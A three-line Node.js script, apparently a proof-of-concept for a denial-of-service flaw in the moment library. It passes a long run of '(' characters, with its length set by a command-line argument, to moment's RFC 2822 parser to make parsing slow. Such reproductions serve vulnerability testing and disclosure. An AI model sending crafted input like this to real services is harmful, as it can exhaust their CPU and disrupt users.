const moment = require('moment');
moment.suppressDeprecationWarnings = true;
moment('('.repeat(Number(process.argv[2])), moment.RFC_2822);
